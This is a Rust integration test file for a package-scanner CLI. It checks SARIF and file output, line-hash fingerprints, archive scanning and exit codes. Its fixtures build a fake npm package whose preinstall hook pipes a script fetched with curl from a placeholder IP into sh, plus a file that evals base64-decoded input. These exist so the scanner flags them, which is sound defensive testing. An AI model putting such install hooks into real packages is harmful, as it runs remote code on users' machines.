#![allow(clippy::unwrap_used, clippy::expect_used)]
//! `--format sarif` and `--output` through the real binary.

use assert_cmd::Command;
use serde_json::Value;
use std::fs;
use std::path::Path;

fn skill_scan() -> Command {
    Command::cargo_bin("skill-scan").expect("binary builds")
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().expect("has parent")).expect("mkdir");
    fs::write(path, text).expect("write");
}

fn malicious(root: &Path) {
    write(
        root,
        "package.json",
        "{\n  \"name\": \"left-padder\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"preinstall\": \"curl -s http://198.51.100.4/p.sh | sh\"\n  }\n}\n",
    );
    write(
        root,
        "index.js",
        "module.exports = (s) => s.padStart(10);\n",
    );
}

fn results(log: &Value) -> &Vec<Value> {
    log["runs"][0]["results"].as_array().expect("results")
}

fn uris(log: &Value) -> Vec<String> {
    results(log)
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .expect("uri")
                .to_string()
        })
        .collect()
}

#[test]
fn sarif_goes_to_the_output_file_and_the_exit_code_still_follows_the_verdict() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    malicious(&pkg);
    let out = dir.path().join("out.sarif");
    skill_scan()
        .arg(&pkg)
        .args(["--format", "sarif", "--output"])
        .arg(&out)
        .assert()
        .code(1)
        .stdout("");
    let log: Value = serde_json::from_str(&fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let ids: Vec<&str> = results(&log)
        .iter()
        .map(|r| r["ruleId"].as_str().unwrap())
        .collect();
    assert_eq!(ids[0], "SSV-VERDICT-BLOCK");
    assert!(ids.contains(&"CMP002"), "{ids:?}");
    assert!(ids.contains(&"SUP003"), "{ids:?}");
    assert!(
        uris(&log).iter().all(|u| u == "package.json"),
        "{:?}",
        uris(&log)
    );
    // Every result on package.json line 5 carries GitHub's line hash of that line.
    let sup = results(&log)
        .iter()
        .find(|r| r["ruleId"] == "SUP003")
        .unwrap();
    let line = sup["locations"][0]["physicalLocation"]["region"]["startLine"]
        .as_u64()
        .unwrap() as usize;
    let bytes = fs::read(pkg.join("package.json")).unwrap();
    let expected = &skill_scan::model::line_hashes(&bytes)[line - 1];
    assert_eq!(
        sup["partialFingerprints"]["primaryLocationLineHash"],
        expected.as_str()
    );
    assert_eq!(log["runs"][0]["properties"]["verdict"], "block");
    // Every loaded rule is described.
    let rules = log["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    assert!(rules
        .iter()
        .any(|r| r["id"] == "RCE001" && r["name"] == "CurlPipedToShell"));
}

/// `files` as an npm pack does it: a gzipped tar with everything under `package/`.
fn tgz(path: &Path, files: &[(&str, &[u8])]) {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for (name, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder
            .append_data(&mut header, format!("package/{name}"), *data)
            .unwrap();
    }
    fs::write(path, builder.into_inner().unwrap().finish().unwrap()).unwrap();
}

#[test]
fn an_archive_gets_the_same_fingerprints_as_the_folder_it_was_packed_from() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("pkg");
    malicious(&folder);
    // A UTF-8 BOM is part of line 1 as GitHub reads the file.
    write(
        &folder,
        "lib/a.js",
        "\u{feff}eval(atob(process.argv[2]));\n",
    );
    let names = ["package.json", "index.js", "lib/a.js"];
    let bytes: Vec<Vec<u8>> = names
        .iter()
        .map(|n| fs::read(folder.join(n)).unwrap())
        .collect();
    let archive = dir.path().join("pkg.tgz");
    let files: Vec<(&str, &[u8])> = names
        .iter()
        .zip(&bytes)
        .map(|(n, b)| (*n, b.as_slice()))
        .collect();
    tgz(&archive, &files);
    let sarif = |target: &Path| -> Value {
        let out = skill_scan()
            .arg(target)
            .args(["--format", "sarif"])
            .assert()
            .code(1)
            .get_output()
            .stdout
            .clone();
        serde_json::from_slice(&out).unwrap()
    };
    let fingerprints = |log: &Value| -> Vec<(String, String, String)> {
        results(log)
            .iter()
            .map(|r| {
                let hash = r["partialFingerprints"]["primaryLocationLineHash"]
                    .as_str()
                    .unwrap_or_else(|| panic!("no fingerprint: {r}"));
                (
                    r["ruleId"].as_str().unwrap().to_string(),
                    r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                        .as_str()
                        .unwrap()
                        .to_string(),
                    hash.to_string(),
                )
            })
            .collect()
    };
    let archive_log = sarif(&archive);
    let from_archive = fingerprints(&archive_log);
    assert!(from_archive.iter().any(|(rule, ..)| rule == "CMP002"));
    assert!(from_archive.iter().any(|(_, uri, _)| uri == "lib/a.js"));
    for (result, (rule, uri, hash)) in results(&archive_log).iter().zip(&from_archive) {
        if let Some(at) = names.iter().position(|n| n == uri) {
            let line = result["locations"][0]["physicalLocation"]["region"]["startLine"]
                .as_u64()
                .unwrap() as usize;
            assert_eq!(
                hash,
                &skill_scan::model::line_hashes(&bytes[at])[line - 1],
                "{rule} {uri}"
            );
        }
    }
    assert_eq!(from_archive, fingerprints(&sarif(&folder)));
}

#[test]
fn several_targets_are_one_run_with_prefixed_uris_and_the_same_bytes_every_time() {
    let dir = tempfile::tempdir().unwrap();
    malicious(&dir.path().join("a"));
    malicious(&dir.path().join("b"));
    let run = || {
        skill_scan()
            .current_dir(dir.path())
            .args(["--format", "sarif", "a", "./b/"])
            .assert()
            .code(1)
            .get_output()
            .stdout
            .clone()
    };
    let first = run();
    assert_eq!(first, run(), "deterministic output");
    let log: Value = serde_json::from_slice(&first).unwrap();
    assert_eq!(log["runs"].as_array().unwrap().len(), 1);
    let uris = uris(&log);
    assert!(uris.contains(&"a/package.json".to_string()), "{uris:?}");
    assert!(uris.contains(&"b/package.json".to_string()), "{uris:?}");
    assert_eq!(log["runs"][0]["properties"]["targets"][1]["uriPrefix"], "b");
}

#[test]
fn a_lone_target_can_be_prefixed_for_repository_relative_uris() {
    let dir = tempfile::tempdir().unwrap();
    malicious(&dir.path().join("pkgs/evil"));
    let output = skill_scan()
        .current_dir(dir.path())
        .args(["--format", "sarif", "--sarif-prefix-targets", "pkgs/evil"])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();
    let log: Value = serde_json::from_slice(&output).unwrap();
    assert!(uris(&log).iter().all(|u| u == "pkgs/evil/package.json"));
}

#[test]
fn output_works_for_every_format_and_an_unwritable_one_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    write(&pkg, "index.js", "module.exports = 1;\n");
    let out = dir.path().join("report.json");
    skill_scan()
        .arg(&pkg)
        .args(["--format", "json", "-o"])
        .arg(&out)
        .assert()
        .code(0)
        .stdout("");
    let json: Value = serde_json::from_str(&fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(json["targets"][0]["verdict"], "allow");
    let text = dir.path().join("report.txt");
    skill_scan()
        .arg(&pkg)
        .arg("--output")
        .arg(&text)
        .assert()
        .code(0);
    assert!(fs::read_to_string(&text)
        .unwrap()
        .contains("verdict: ALLOW"));
    skill_scan()
        .arg(&pkg)
        .args(["--output", "/no/such/dir/x.sarif", "--format", "sarif"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("cannot write"));
}
